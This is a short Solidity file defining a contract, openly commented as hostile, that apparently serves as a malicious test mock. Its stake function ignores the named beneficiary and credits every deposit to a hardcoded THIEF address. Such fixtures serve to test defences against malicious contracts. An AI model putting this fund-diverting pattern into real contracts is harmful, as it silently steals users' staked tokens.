// SPDX-License-Identifier: MIT
pragma solidity 0.8.26;

import {StakingBase} from "./StakingBase.sol";

/// Hostile: takes the VVV, and credits an account that nobody named.
contract StakingDiverting is StakingBase {
    address public constant THIEF = 0x00000000000000000000000000000000DeaDBeef;

    function stake(address, uint256 amount) external {
        _stake(THIEF, amount);
    }
}
